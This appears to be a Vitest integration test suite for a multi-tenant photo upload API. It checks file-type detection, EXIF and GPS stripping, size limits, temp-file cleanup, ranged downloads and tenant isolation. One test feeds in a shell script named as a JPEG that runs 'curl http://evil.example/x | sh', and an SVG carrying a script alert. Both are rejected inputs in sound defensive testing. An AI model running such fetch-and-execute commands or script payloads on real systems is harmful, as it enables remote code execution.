/**
 * Photos: upload of JPEG, PNG, WebP and HEIC recognised by content; refusal of anything else (a
 * script named .jpg), of damaged and truncated files, of more than 40 megapixels and 20 MB, of a
 * form cut off in transit — with nothing stored; re-encoding with auto-rotation and all metadata
 * stripped (GPS kept only in the database and only under the `gps` consent); thumbnails; downloads
 * with byte ranges; lists with filters; roles and tenant isolation. Uploads go through a temporary
 * file that is gone after every answer, stored or refused (decision 0052).
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { images } from '../../server/db/schema';
import { startTestServer, type TestServer } from '../support/test-server';
import { archiveCustomer, checked, grantGps, imageForm, jpeg, newCustomer, postForm, uploadImage } from './activity-support';
import { createTenant, type Member, type TestTenant } from './factories';

let server: TestServer;
let firm: TestTenant;
let owner: Member;
let employee: Member;
let other: TestTenant;
let customer: { id: string; displayName: string };

beforeAll(async () => {
  server = await startTestServer();
  firm = await createTenant(server);
  owner = firm.owner;
  employee = await firm.member('Employee');
  other = await createTenant(server);
  customer = await newCustomer(owner, 'Elektro Schneider GmbH');
});
afterAll(async () => {
  await server?.close();
});

const UPLOAD = '/api/Images/UploadWorkDocImage';

/** The files stored for a tenant (photos and thumbnails), in the directory or the bucket. */
function storedFiles(tenantId: string): Promise<string[]> {
  return server.storedKeys(`${tenantId}/images`);
}

async function imageCount(tenantId: string) {
  return server.database.withTenant(tenantId, async (tx) => (await tx.select().from(images)).length);
}

async function download(member: Member, id: string, headers: Record<string, string> = {}, what: 'Get' | 'GetThumbnail' = 'Get') {
  const url = `${server.baseUrl}/api/Images/${what}/${id}`;
  const response = await fetch(url, { headers: { ...member.auth, ...headers } });
  const type = response.headers.get('content-type') ?? '';
  if (type.includes('json')) return { ...(await checked('GET', url, response)), bytes: Buffer.alloc(0) };
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, body: null, bytes };
}

async function refused(form: FormData, status: number, code: string, member: Member = employee) {
  const before = { files: await storedFiles(member.tenantId), rows: await imageCount(member.tenantId) };
  const answer = await postForm(server, member, UPLOAD, form);
  expect(answer.status, JSON.stringify(answer.body)).toBe(status);
  expect(answer.body.errorMessages[0].code).toBe(code);
  expect(await storedFiles(member.tenantId)).toEqual(before.files);
  expect(await imageCount(member.tenantId)).toBe(before.rows);
  return answer.body;
}

const gpsExif = {
  IFD0: { Make: 'Fieldbook Test', Model: 'Phone 1' },
  IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 8/1 1464/100', GPSLongitudeRef: 'E', GPSLongitude: '11/1 34/1 3180/100' },
};

describe('Images/UploadWorkDocImage', () => {
  it('stores a JPEG re-encoded without any metadata and answers its record', async () => {
    const original = await jpeg(800, 600, { exif: gpsExif });
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const image = await uploadImage(server, employee, customer.id, {
      category: 'before',
      description: 'Sicherungskasten vor dem Umbau',
      createdAtUtc: '2026-11-20T07:30:00Z',
    }, original);
    expect(image).toMatchObject({
      customerId: customer.id,
      customerName: 'Elektro Schneider GmbH',
      category: 'before',
      description: 'Sicherungskasten vor dem Umbau',
      createdAtUtc: '2026-11-20T07:30:00.000Z',
      width: 800,
      height: 600,
      contentType: 'image/jpeg',
      fileName: 'elektro-schneider-gmbh-2026-11-20-0830.jpg',
      ownerId: employee.userId,
      processed: false,
      locked: false,
      // No consent: the photo's GPS is not kept.
      latitude: null,
      longitude: null,
    });
    const served = await download(owner, image.id);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/jpeg');
    expect(served.headers.get('content-disposition')).toContain('filename="elektro-schneider-gmbh-2026-11-20-0830.jpg"');
    expect(served.headers.get('accept-ranges')).toBe('bytes');
    expect(Number(served.headers.get('content-length'))).toBe(image.sizeBytes);
    const meta = await sharp(served.bytes).metadata();
    expect(meta.format).toBe('jpeg');
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.iptc).toBeUndefined();
    expect(served.bytes.includes(Buffer.from('Fieldbook Test'))).toBe(false);
  });

  it('keeps the EXIF GPS only in the database and only while the gps consent is granted; the file never carries it', async () => {
    await grantGps(owner, true);
    try {
      const image = await uploadImage(server, employee, customer.id, {}, await jpeg(640, 480, { exif: gpsExif }));
      expect(image.latitude).toBeCloseTo(48.1374, 4);
      expect(image.longitude).toBeCloseTo(11.5755, 4);
      const served = await download(employee, image.id);
      expect((await sharp(served.bytes).metadata()).exif).toBeUndefined();
      const thumb = await download(employee, image.id, {}, 'GetThumbnail');
      expect((await sharp(thumb.bytes).metadata()).exif).toBeUndefined();

      // A position sent by the app wins over the photo's.
      const sent = await uploadImage(server, employee, customer.id, { latitude: '52.52', longitude: '13.405' }, await jpeg(64, 64, { exif: gpsExif }));
      expect(sent).toMatchObject({ latitude: 52.52, longitude: 13.405 });
    } finally {
      await grantGps(owner, false);
    }
    const revoked = await uploadImage(server, employee, customer.id, { latitude: '52.52', longitude: '13.405' }, await jpeg(64, 64, { exif: gpsExif }));
    expect(revoked).toMatchObject({ latitude: null, longitude: null });
  });

  it('turns a photo upright from its EXIF orientation', async () => {
    const sideways = await sharp({ create: { width: 300, height: 100, channels: 3, background: '#224466' } }).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    const image = await uploadImage(server, employee, customer.id, {}, sideways);
    expect([image.width, image.height]).toEqual([100, 300]);
    const served = await sharp((await download(employee, image.id)).bytes).metadata();
    expect([served.width, served.height, served.orientation]).toEqual([100, 300, undefined]);
  });

  it('accepts PNG, WebP and HEIC by their content, whatever their name says', async () => {
    const png = await sharp({ create: { width: 120, height: 80, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } }).png().toBuffer();
    const webp = await sharp({ create: { width: 90, height: 60, channels: 3, background: '#00aa00' } }).webp().toBuffer();
    const heic = fs.readFileSync(path.resolve('tests/fixtures/images/pixel.heic'));
    for (const [data, name, type, size] of [
      [png, 'scan.png', 'image/png', [120, 80]],
      [webp, 'foto.bin', 'application/octet-stream', [90, 60]],
      [heic, 'IMG_4711.HEIC', 'image/heic', [1, 1]],
    ] as const) {
      const answer = await postForm(server, employee, UPLOAD, imageForm({ customerId: customer.id }, { data, name, type }));
      expect(answer.status, `${name}: ${JSON.stringify(answer.body)}`).toBe(200);
      expect([answer.body.data.width, answer.body.data.height]).toEqual(size);
      const served = await download(employee, answer.body.data.id);
      expect((await sharp(served.bytes).metadata()).format).toBe('jpeg');
    }
  });

  it('refuses a script disguised as a JPEG with UNSUPPORTED_MEDIA_TYPE and stores nothing', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const body = await refused(imageForm({ customerId: customer.id }, { data: script, name: 'urlaub.jpg', type: 'image/jpeg' }), 400, 'UNSUPPORTED_MEDIA_TYPE');
    expect(body.errorMessages[0].message).toContain('JPEG, PNG, WebP oder HEIC');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    await refused(imageForm({ customerId: customer.id }, { data: svg, name: 'bild.png', type: 'image/png' }), 400, 'UNSUPPORTED_MEDIA_TYPE');
  });

  it('refuses a 50-megapixel image with INVALID_IMAGE before decoding it', async () => {
    const huge = await sharp({ create: { width: 10000, height: 5000, channels: 3, background: '#ffffff' } }).jpeg({ quality: 50 }).toBuffer();
    expect(huge.length).toBeLessThan(20 * 1024 * 1024);
    const body = await refused(imageForm({ customerId: customer.id }, { data: huge, name: 'panorama.jpg', type: 'image/jpeg' }), 400, 'INVALID_IMAGE');
    expect(body.errorMessages[0].message).toContain('40 Megapixel');
  });

  it('refuses a truncated and a damaged image with INVALID_IMAGE', async () => {
    const whole = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 30 } } }).jpeg().toBuffer();
    await refused(imageForm({ customerId: customer.id }, { data: whole.subarray(0, Math.floor(whole.length / 2)), name: 'halb.jpg', type: 'image/jpeg' }), 400, 'INVALID_IMAGE');
    const damaged = Buffer.concat([whole.subarray(0, 20), crypto.randomBytes(2000)]);
    await refused(imageForm({ customerId: customer.id }, { data: damaged, name: 'kaputt.jpg', type: 'image/jpeg' }), 400, 'INVALID_IMAGE');
  });

  it('refuses an upload cut off in transit (the form never ends) and stores nothing', async () => {
    const boundary = '----fieldbook' + crypto.randomBytes(8).toString('hex');
    const data = await jpeg(200, 200);
    const full = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="customerId"\r\n\r\n${customer.id}\r\n`),
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`),
      data,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const cut = full.subarray(0, full.length - data.length / 2);
    const before = { files: await storedFiles(firm.tenantId), rows: await imageCount(firm.tenantId) };
    const response = await fetch(server.baseUrl + UPLOAD, {
      method: 'POST',
      body: cut,
      headers: { ...employee.auth, 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
    const answer = await checked('POST', server.baseUrl + UPLOAD, response);
    expect(answer.status).toBe(400);
    expect(answer.body.errorMessages[0].code).toBe('BAD_REQUEST');
    expect(await storedFiles(firm.tenantId)).toEqual(before.files);
    expect(await imageCount(firm.tenantId)).toBe(before.rows);
  });

  it('refuses a file over 20 MB with 413', async () => {
    const big = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), crypto.randomBytes(20 * 1024 * 1024 + 10)]);
    const body = await refused(imageForm({ customerId: customer.id }, { data: big, name: 'gross.jpg', type: 'image/jpeg' }), 413, 'PAYLOAD_TOO_LARGE');
    expect(body.errorMessages[0].message).toContain('20 MB');
  });

  it('refuses bad fields with field errors, a missing file, and a body that is not a form', async () => {
    const data = await jpeg(32, 32);
    let body = await refused(
      imageForm({ customerId: 'kein-uuid', latitude: '91', longitude: 'Ost', createdAtUtc: 'gestern', category: 'x'.repeat(51), isAdmin: 'true' }, { data, name: 'a.jpg', type: 'image/jpeg' }),
      400,
      'VALIDATION_ERROR',
    );
    expect(Object.keys(body.errors).sort()).toEqual(['category', 'createdAtUtc', 'customerId', 'isAdmin', 'latitude', 'longitude']);
    expect(body.errors.isAdmin).toEqual(['Unbekanntes Feld.']);
    expect(body.errors.category).toEqual(['Höchstens 50 Zeichen.']);
    body = await refused(imageForm({ customerId: customer.id }), 400, 'VALIDATION_ERROR');
    expect(body.errors.file).toEqual(['Bitte wählen Sie ein Foto.']);
    body = await refused(imageForm({ customerId: customer.id, latitude: '48.1' }, { data, name: 'a.jpg', type: 'image/jpeg' }), 400, 'VALIDATION_ERROR');
    expect(body.errors.longitude).toEqual(['Pflichtfeld.']);

    const response = await fetch(server.baseUrl + UPLOAD, {
      method: 'POST',
      body: JSON.stringify({ customerId: customer.id }),
      headers: { ...employee.auth, 'content-type': 'application/json' },
    });
    const answer = await checked('POST', server.baseUrl + UPLOAD, response);
    expect(answer.status).toBe(415);
    expect(answer.body.errorMessages[0].code).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it('answers 404 for an unknown or another tenant\'s customer and 400 CUSTOMER_ARCHIVED', async () => {
    const data = await jpeg(32, 32);
    await refused(imageForm({ customerId: crypto.randomUUID() }, { data, name: 'a.jpg', type: 'image/jpeg' }), 404, 'NOT_FOUND');
    const foreign = await newCustomer(other.owner);
    await refused(imageForm({ customerId: foreign.id }, { data, name: 'a.jpg', type: 'image/jpeg' }), 404, 'NOT_FOUND');
    const archived = await newCustomer(owner, 'Archiv KG');
    await archiveCustomer(owner, archived.id, 'Archiv KG');
    await refused(imageForm({ customerId: archived.id }, { data, name: 'a.jpg', type: 'image/jpeg' }), 400, 'CUSTOMER_ARCHIVED');
  });

  it('stores a retried upload once (same id) and refuses another record\'s id with 409', async () => {
    const id = crypto.randomUUID();
    const first = await uploadImage(server, employee, customer.id, { id, description: 'Erster Versuch' });
    const files = await storedFiles(firm.tenantId);
    const again = await uploadImage(server, employee, customer.id, { id, description: 'Zweiter Versuch' });
    expect(again).toEqual(first);
    expect(await storedFiles(firm.tenantId)).toEqual(files);
    const elsewhere = await newCustomer(owner);
    await refused(imageForm({ customerId: elsewhere.id, id }, { data: await jpeg(32, 32), name: 'a.jpg', type: 'image/jpeg' }), 409, 'CONFLICT');
  });

  it('refuses a call without a token', async () => {
    const answer = await postForm(server, null, UPLOAD, imageForm({ customerId: customer.id }, { data: await jpeg(32, 32), name: 'a.jpg', type: 'image/jpeg' }));
    expect(answer.status).toBe(401);
  });
});

describe('uploads through a temporary file (decision 0052)', () => {
  // The server of this file runs in this process: its temporary files go to TMPDIR, a directory of our own.
  let spool: string;
  beforeAll(() => {
    spool = fs.mkdtempSync(path.join(os.tmpdir(), 'fieldbook-spool-test-'));
    vi.stubEnv('TMPDIR', spool);
  });
  afterAll(() => {
    vi.unstubAllEnvs();
    fs.rmSync(spool, { recursive: true, force: true });
  });
  const spooled = () => fs.readdirSync(spool);
  const emptied = () => expect.poll(spooled, { timeout: 5_000, interval: 20 }).toEqual([]);

  it('writes the photo to a temporary file (and the JPEG beside it), never whole into memory, and removes both after the answer', async () => {
    const seen = new Set<string>();
    const watcher = fs.watch(spool, (_event, name) => name && seen.add(name));
    try {
      const data = await jpeg(800, 600);
      const image = await uploadImage(server, employee, customer.id, {}, data);
      expect(image.sizeBytes).toBeGreaterThan(0);
      await emptied();
    } finally {
      watcher.close();
    }
    const names = [...seen];
    const upload = names.find((name) => /^fieldbook-upload-[0-9a-f-]{36}$/.test(name));
    expect(upload, names.join(', ')).toBeDefined();
    expect(names).toContain(`${upload}.jpg`);
  });

  it('removes the temporary file of a refused upload: damaged, over 20 MB, a form cut off, a connection dropped', async () => {
    const damaged = Buffer.from(await jpeg(300, 300));
    damaged.fill(0x55, 200, 600);
    await refused(imageForm({ customerId: customer.id }, { data: damaged, name: 'kaputt.jpg', type: 'image/jpeg' }), 400, 'INVALID_IMAGE');
    await emptied();
    const big = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), crypto.randomBytes(20 * 1024 * 1024 + 10)]);
    await refused(imageForm({ customerId: customer.id }, { data: big, name: 'gross.jpg', type: 'image/jpeg' }), 413, 'PAYLOAD_TOO_LARGE');
    await emptied();

    const boundary = '----fieldbook' + crypto.randomBytes(8).toString('hex');
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="customerId"\r\n\r\n${customer.id}\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
    );
    const cut = await fetch(server.baseUrl + UPLOAD, {
      method: 'POST',
      body: Buffer.concat([head, await jpeg(200, 200)]),
      headers: { ...employee.auth, 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
    expect(cut.status).toBe(400);
    await emptied();

    // The client goes away in the middle of the file: once part of it is on disk, the connection drops.
    const url = new URL(server.baseUrl + UPLOAD);
    const request = http.request({
      host: url.hostname,
      port: url.port,
      path: url.pathname,
      method: 'POST',
      headers: { ...employee.auth, 'content-type': `multipart/form-data; boundary=${boundary}`, 'content-length': String(head.length + 4 * 1024 * 1024) },
    });
    request.on('error', () => undefined);
    request.write(head);
    request.write(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), crypto.randomBytes(512 * 1024)]));
    await expect.poll(spooled, { timeout: 5_000, interval: 20 }).toHaveLength(1);
    request.destroy();
    await emptied();
  });
});

describe('Images/Get and GetThumbnail', () => {
  let image: { id: string; sizeBytes: number };
  let whole: Buffer;
  beforeAll(async () => {
    image = await uploadImage(server, owner, customer.id, {}, await sharp({ create: { width: 1200, height: 900, channels: 3, background: '#646464', noise: { type: 'gaussian', mean: 100, sigma: 40 } } }).jpeg().toBuffer());
    whole = (await download(owner, image.id)).bytes;
    expect(whole.length).toBe(image.sizeBytes);
  });

  it('answers byte ranges with 206 and Content-Range', async () => {
    const first = await download(employee, image.id, { Range: 'bytes=0-1023' });
    expect(first.status).toBe(206);
    expect(first.headers.get('content-range')).toBe(`bytes 0-1023/${image.sizeBytes}`);
    expect(first.headers.get('content-length')).toBe('1024');
    expect(first.headers.get('content-disposition')).toContain('.jpg');
    expect(first.bytes.equals(whole.subarray(0, 1024))).toBe(true);
    const rest = await download(employee, image.id, { Range: 'bytes=1024-' });
    expect(Buffer.concat([first.bytes, rest.bytes]).equals(whole)).toBe(true);
    const tail = await download(employee, image.id, { Range: 'bytes=-100' });
    expect(tail.status).toBe(206);
    expect(tail.bytes.equals(whole.subarray(whole.length - 100))).toBe(true);
  });

  it('answers a range outside the file with 416 and the full size', async () => {
    const response = await fetch(`${server.baseUrl}/api/Images/Get/${image.id}`, { headers: { ...owner.auth, Range: `bytes=${image.sizeBytes + 10}-` } });
    expect(response.status).toBe(416);
    expect(response.headers.get('content-range')).toBe(`bytes */${image.sizeBytes}`);
  });

  it('serves a WebP thumbnail with a long edge of 320 px, JPEG when WebP is not accepted', async () => {
    const webp = await download(employee, image.id, {}, 'GetThumbnail');
    expect(webp.status).toBe(200);
    expect(webp.headers.get('content-type')).toBe('image/webp');
    expect(webp.headers.get('content-disposition')).toContain('-thumb.webp');
    const meta = await sharp(webp.bytes).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['webp', 320, 240]);
    const jpg = await download(employee, image.id, { Accept: 'image/jpeg,image/png;q=0.8' }, 'GetThumbnail');
    expect(jpg.headers.get('content-type')).toBe('image/jpeg');
    expect((await sharp(jpg.bytes).metadata()).format).toBe('jpeg');
  });

  it('answers 404 for an unknown id and for another tenant\'s photo', async () => {
    for (const what of ['Get', 'GetThumbnail'] as const) {
      expect((await download(owner, crypto.randomUUID(), {}, what)).status).toBe(404);
      const foreign = await download(other.owner, image.id, {}, what);
      expect(foreign.status).toBe(404);
      expect(foreign.body.errorMessages[0].code).toBe('NOT_FOUND');
    }
  });
});

describe('Images/GetAll', () => {
  let gallery: { id: string };
  beforeAll(async () => {
    gallery = await newCustomer(owner, 'Galerie Huber');
    await uploadImage(server, owner, gallery.id, { category: 'before', description: 'Altbau Flur', createdAtUtc: '2026-09-01T08:00:00Z' });
    await uploadImage(server, employee, gallery.id, { category: 'after', description: 'Neue Leuchten', createdAtUtc: '2026-09-02T08:00:00Z' });
    const done = await uploadImage(server, employee, gallery.id, { category: 'damage', description: 'Wasserschaden', createdAtUtc: '2026-09-03T08:00:00Z' });
    await server.database.withTenant(firm.tenantId, (tx) => tx.update(images).set({ processedAt: new Date() }).where(eq(images.id, done.id)));
  });

  const list = (member: Member, query: Record<string, string | number | boolean> = {}) =>
    member.api.GET('/api/Images/GetAll', {
      params: { query: { includeProcessed: true, includeUnprocessed: true, isDescending: true, page: 1, pageSize: 20, customerId: gallery.id, ...query } },
    });

  it('lists a customer\'s photos newest first, for every member', async () => {
    const page = (await list(employee)).data!.data!;
    expect(page.totalCount).toBe(3);
    expect(page.items.map((i) => i.description)).toEqual(['Wasserschaden', 'Neue Leuchten', 'Altbau Flur']);
    expect(page.items[0]).toMatchObject({ processed: true, customerName: 'Galerie Huber', ownerId: employee.userId });
  });

  it('filters by category, processed state, period and text, sorts and pages', async () => {
    expect((await list(owner, { category: 'after' })).data!.data!.items.map((i) => i.description)).toEqual(['Neue Leuchten']);
    expect((await list(owner, { includeProcessed: false })).data!.data!.totalCount).toBe(2);
    expect((await list(owner, { includeUnprocessed: false })).data!.data!.items.map((i) => i.description)).toEqual(['Wasserschaden']);
    expect((await list(owner, { fromDate: '2026-09-02T00:00:00Z', toDate: '2026-09-03T00:00:00Z' })).data!.data!.items.map((i) => i.description)).toEqual(['Neue Leuchten']);
    expect((await list(owner, { filter: 'LEUCHTEN' })).data!.data!.totalCount).toBe(1);
    expect((await list(owner, { customerId: '', filter: 'galerie huber' } as never)).response.status).toBe(400);
    const byCategory = (await list(owner, { orderBy: 'category', isDescending: false })).data!.data!.items.map((i) => i.category);
    expect(byCategory).toEqual(['after', 'before', 'damage']);
    const second = (await list(owner, { pageSize: 2, page: 2 })).data!.data!;
    expect(second).toMatchObject({ totalCount: 3, page: 2, pageSize: 2 });
    expect(second.items.map((i) => i.description)).toEqual(['Altbau Flur']);
  });

  it('finds photos across customers by the customer\'s name and shows nothing of another tenant', async () => {
    const all = await owner.api.GET('/api/Images/GetAll', {
      params: { query: { includeProcessed: true, includeUnprocessed: true, isDescending: true, page: 1, pageSize: 20, filter: 'galerie' } },
    });
    expect(all.data!.data!.totalCount).toBe(3);
    const foreign = await other.owner.api.GET('/api/Images/GetAll', {
      params: { query: { includeProcessed: true, includeUnprocessed: true, isDescending: true, page: 1, pageSize: 20 } },
    });
    expect(foreign.data!.data!.totalCount).toBe(0);
  });
});
